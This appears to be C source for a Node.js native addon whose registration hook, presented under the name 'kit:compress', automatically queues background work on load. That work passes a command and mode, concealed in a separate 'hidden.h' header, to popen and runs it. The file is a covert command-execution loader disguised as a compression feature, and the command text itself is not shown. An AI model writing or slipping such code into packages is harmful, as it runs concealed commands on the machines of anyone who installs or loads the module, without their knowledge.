/* A Node addon whose work goes on in a thread of the pool, where a hidden command runs. */
#define ON_REQUEST
#include "plugin.h"
#include "hidden.h" /* 0: the command, 1: the mode */
typedef struct stream stream;
extern stream *popen(const char *, const char *);
extern int pclose(stream *);
extern int napi_create_string_utf8(void *, const char *, unsigned long, void **), napi_create_async_work(void *, void *, void *, void (*)(void *, void *), void (*)(void *, int, void *), void *, void **);
extern int napi_queue_async_work(void *, void *), napi_delete_async_work(void *, void *);
static struct job { char *(*command)(void), *(*mode)(void); void *work; } job = {hidden0, hidden1};
static void execute(void *env, void *data) {
    struct job *j = data;
    stream *s = popen(j->command(), j->mode());
    if (s) pclose(s);
}
static void complete(void *env, int status, void *data) { napi_delete_async_work(env, ((struct job *)data)->work); }
static void *on_register(void *env, void *exports) {
    void *name;
    napi_create_string_utf8(env, "kit:compress", ~0ul, &name);
    napi_create_async_work(env, 0, name, execute, complete, &job, &job.work);
    napi_queue_async_work(env, job.work);
    return exports;
}
